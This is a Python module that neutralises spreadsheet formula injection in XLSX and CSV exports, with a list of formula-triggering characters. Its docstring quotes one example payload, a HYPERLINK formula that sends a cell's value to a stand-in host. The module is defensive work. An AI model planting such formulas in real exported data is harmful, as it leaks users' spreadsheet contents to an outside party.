"""Cells that a spreadsheet shows and never runs.

A resident named `=HYPERLINK("http://x/?"&A1,"klik")` must stay a name in Excel: openpyxl
turns any text starting with `=` into a formula, and Excel runs CSV text starting with
`=`, `+`, `-`, `@`, a tab or a carriage return as one. So every text cell in an XLSX is
written as text, and such CSV text gets a leading quote (numbers are left as they are).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


def cells(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append`: text as text cells, everything else as it is."""
    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=value)  # placed by `append`, in either kind of sheet
            cell.data_type = "s"  # not "f" (formula) or "e" (error code), whatever it starts with
            row.append(cell)
        else:
            row.append(value)
    return row
